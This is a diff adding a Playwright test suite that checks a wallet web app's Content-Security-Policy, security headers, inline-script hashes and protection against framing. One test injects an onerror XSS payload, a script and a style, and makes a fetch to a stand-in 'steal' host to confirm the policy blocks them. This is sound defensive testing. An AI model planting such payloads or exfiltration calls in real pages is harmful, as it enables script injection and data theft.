@@ -1,0 +1,140 @@
+import { createHash } from 'node:crypto';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { expect, type Page, test } from '@playwright/test';
+import { words } from './words';
+
+/** What the browser is told to allow (docs/security.md, V3), on the built product as members meet it. */
+const w = words.th;
+const PUBLIC = ['/login', '/register', '/terminated', '/no-such-page'];
+const MEMBER = ['/user/home', '/user/profile', '/user/statement', '/user/home?sheet=deposit', '/user/home?sheet=withdraw'];
+
+/** Collects what the browser refused on every page that `page` opens. */
+async function watchViolations(page: Page): Promise<string[]> {
+  const violations: string[] = [];
+  await page.exposeFunction('tellViolation', (text: string) => violations.push(text));
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', (event) => {
+      const { tellViolation } = window as unknown as { tellViolation: (text: string) => void };
+      tellViolation(`${event.effectiveDirective} refused ${event.blockedURI} ${event.sample}`);
+    });
+  });
+  return violations;
+}
+
+async function logIn(page: Page): Promise<void> {
+  await page.goto('/login');
+  await page.getByLabel(w.session.phone).fill('0800000001');
+  await page.getByLabel(w.session.password, { exact: true }).fill('krapao-demo');
+  await page.getByRole('button', { name: w.session.submit, exact: true }).click();
+  await page.waitForURL('**/user/home');
+}
+
+const directives = (policy: string): Record<string, string[]> =>
+  Object.fromEntries(
+    policy.split(';').map((directive) => {
+      const [name = '', ...sources] = directive.trim().split(/\s+/);
+      return [name, sources];
+    }),
+  );
+
+for (const path of PUBLIC) {
+  test(`${path}: strict headers, and every inline script and style has its hash`, async ({ request }) => {
+    const response = await request.get(path);
+    const headers = response.headers();
+    const policy = directives(headers['content-security-policy'] ?? '');
+    expect(policy).toMatchObject({
+      'frame-ancestors': ["'none'"],
+      'object-src': ["'none'"],
+      'base-uri': ["'none'"],
+      'connect-src': ["'self'"],
+    });
+    expect(JSON.stringify(policy)).not.toMatch(/unsafe-inline|unsafe-eval|https?:|\*/);
+    expect(policy).not.toHaveProperty('upgrade-insecure-requests');
+    expect(headers).not.toHaveProperty('strict-transport-security');
+    expect(headers).not.toHaveProperty('x-powered-by');
+    expect(headers).toMatchObject({ 'x-content-type-options': 'nosniff', 'referrer-policy': 'no-referrer', 'x-frame-options': 'DENY' });
+    expect(headers['permissions-policy']).toContain('geolocation=()');
+
+    const html = await response.text();
+    for (const [element, directive] of [
+      ['script', 'script-src'],
+      ['style', 'style-src'],
+    ] as const) {
+      for (const [, attributes = '', text = ''] of html.matchAll(new RegExp(`<${element}([^>]*)>([\\s\\S]*?)</${element}>`, 'g'))) {
+        if (attributes.includes('src=')) continue;
+        expect(policy[directive]).toContain(`'sha256-${createHash('sha256').update(text).digest('base64')}'`);
+      }
+    }
+  });
+}
+
+test('answers of the API are kept by nobody', async ({ request }) => {
+  for (const path of ['/api/lookup/info', '/api/wallet', '/api/no-such-call']) {
+    expect((await request.get(path)).headers()['cache-control']).toBe('no-store');
+  }
+});
+
+test('no page breaks its own policy', async ({ page }) => {
+  const violations = await watchViolations(page);
+  for (const path of PUBLIC) {
+    await page.goto(path);
+    await page.waitForLoadState('networkidle');
+  }
+  const socket = page.waitForEvent('websocket');
+  await logIn(page);
+  // Live push is a socket of this very origin, and it speaks.
+  const live = await socket;
+  expect(new URL(live.url()).host).toBe(new URL(page.url()).host);
+  await live.waitForEvent('framereceived');
+  const dialog = page.getByRole('dialog', { name: w.wallet.agreement.title });
+  await dialog.getByRole('button', { name: w.wallet.agreement.accept }).click();
+  for (const path of MEMBER) {
+    await page.goto(path);
+    await page.waitForLoadState('networkidle');
+  }
+  expect(violations).toEqual([]);
+});
+
+test('what an attacker slips into the page neither runs nor styles nor calls home', async ({ page }) => {
+  const violations = await watchViolations(page);
+  await page.goto('/login');
+  const ran = await page.evaluate(async () => {
+    const holder = document.createElement('div');
+    holder.innerHTML = '<img src="x:" onerror="document.title=\'ran\'"><p style="position:fixed">x</p>';
+    const script = document.createElement('script');
+    script.textContent = "document.title = 'ran'";
+    const style = document.createElement('style');
+    style.textContent = 'body { display: none }';
+    document.body.append(holder, script, style);
+    const called = await fetch('https://198.51.100.1/steal').then(
+      () => true,
+      () => false,
+    );
+    await new Promise((resolve) => setTimeout(resolve, 200));
+    const shown = getComputedStyle(document.body).display !== 'none';
+    const placed = getComputedStyle(holder.querySelector('p') ?? holder).position;
+    return { title: document.title, called, shown, placed };
+  });
+  expect(ran).toMatchObject({ called: false, shown: true, placed: 'static' });
+  expect(ran.title).not.toBe('ran');
+  const refused = violations.map((text) => text.split(' ')[0]);
+  for (const directive of ['connect-src', 'script-src-attr', 'script-src-elem', 'style-src-attr', 'style-src-elem']) {
+    expect(refused).toContain(directive);
+  }
+});
+
+test('no other site can put the wallet into a frame', async ({ page, baseURL }) => {
+  const elsewhere = createServer((_request, response) => {
+    response.writeHead(200, { 'content-type': 'text/html' }).end(`<iframe src="${baseURL}/login"></iframe>`);
+  });
+  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
+  try {
+    const refused = page.waitForEvent('requestfailed', { predicate: (failed) => failed.url().endsWith('/login'), timeout: 15_000 });
+    await page.goto(`http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/`);
+    expect((await refused).failure()?.errorText).toContain('BLOCKED_BY_RESPONSE');
+  } finally {
+    elsewhere.closeAllConnections();
+    elsewhere.close();
+  }
+});
